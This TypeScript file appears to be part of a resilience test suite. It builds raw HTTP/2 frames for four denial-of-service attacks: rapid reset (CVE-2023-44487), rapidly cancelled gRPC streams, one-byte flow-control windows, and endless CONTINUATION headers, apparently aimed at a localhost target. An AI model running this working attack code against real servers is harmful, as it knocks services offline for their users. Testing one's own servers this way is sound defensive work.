// Frames of HTTP/2 that make work, or hold memory, for little.
import { setTimeout as sleep } from "node:timers/promises";
import type { TLSSocket } from "node:tls";
import { create, toBinary } from "@bufbuild/protobuf";
import { StreamReceiptsRequestSchema } from "../../../gen/stoa/v1/ledger_service_pb.js";
import { GetPostRequestSchema } from "../../../gen/stoa/v1/post_service_pb.js";
import {
  END_STREAM,
  field,
  frame,
  frameType,
  get,
  grpcCall,
  headerBlock,
  INITIAL_WINDOW_SIZE,
  PREFACE,
  rstStream,
  settings,
} from "../../support/http2-frames.ts";
import { pour } from "./requests.ts";
import { type Attack, clientAddress, connectTls, count, keepOpen, type Target } from "./target.ts";

const CANCEL = 8;
const getFirst = toBinary(GetPostRequestSchema, create(GetPostRequestSchema, { id: 1n }));
const followAll = toBinary(StreamReceiptsRequestSchema, create(StreamReceiptsRequestSchema, { follow: true }));
const site = { ":scheme": "https", ":authority": "localhost" };

/** Requests that are reset at once (CVE-2023-44487): reads, and complete calls of gRPC. */
export const rapidResets: Attack = (target) =>
  keepSessions(target, 10, (socket, n) => {
    const request = n % 2 === 0 ? readOf : callOf;
    let stream = -1;
    pour(socket, () => {
      const pairs = Array.from({ length: 50 }, () => {
        stream += 2;
        count(target, "requests that were reset");
        return Buffer.concat([request(stream), rstStream(stream, CANCEL)]);
      });
      return Buffer.concat(pairs);
    });
  });

const readOf = (stream: number): Buffer => get(stream, "/api/v1/feed", site);

/** A complete call of gRPC: GetPost of the post 1. */
const callOf = (stream: number): Buffer => grpcCall(stream, "/stoa.v1.PostService/GetPost", getFirst, site);

/** Keeps sessions of HTTP/2 open, one of each client. See `keepOpen`. @param window how much each stream may be sent */
function keepSessions(
  target: Target,
  number: number,
  begin: (socket: TLSSocket, n: number) => Promise<void> | void,
  { window = 65_535, atOnce = number } = {},
): Promise<void> {
  const start = Buffer.concat([Buffer.from(PREFACE), settings({ [INITIAL_WINDOW_SIZE]: window })]);
  const open = (n: number) => connectTls(target, clientAddress(n), "h2");
  const beginWith = (socket: TLSSocket, n: number) => {
    socket.write(start);
    return begin(socket, n);
  };
  return keepOpen(number, open, beginWith, atOnce);
}

/** Streams of receipts by gRPC that their clients cancel soon: 400 a second, each begun in earnest. */
export const cancelledCalls: Attack = (target) =>
  keepSessions(target, 20, (socket) => {
    let stream = -1;
    const timer = setInterval(() => {
      if (stream > 0) socket.write(rstStream(stream, CANCEL));
      stream += 2;
      socket.write(grpcCall(stream, "/stoa.v1.LedgerService/StreamReceipts", followAll, site));
      count(target, "cancelled calls");
    }, 50);
    socket.once("close", () => clearInterval(timer));
  });

/** Replies on many streams, with a window for one byte of each. They do not begin all at once: that would be a flood. */
export const smallWindows: Attack = (target) => {
  const begin = (socket: TLSSocket, n: number) => {
    for (let stream = 1; stream < 100; stream += 2) {
      count(target, "streams with a small window");
      socket.write(n % 2 === 0 ? get(stream, "/api/v1/feed?limit=5", site) : callOf(stream));
    }
    return sleep(100);
  };
  return keepSessions(target, 20, begin, { window: 1, atOnce: 1 });
};

/** A head that goes on and on (CONTINUATION), as quickly as it is taken. */
export const endlessHeads: Attack = (target) =>
  keepSessions(target, 20, (socket) => {
    socket.write(frame(frameType.headers, END_STREAM, 1, headerBlock("GET", "/", site)));
    const part = frame(frameType.continuation, 0, 1, field("x", "x".repeat(8_000)));
    pour(socket, () => {
      count(target, "frames of endless heads");
      return part;
    });
  });
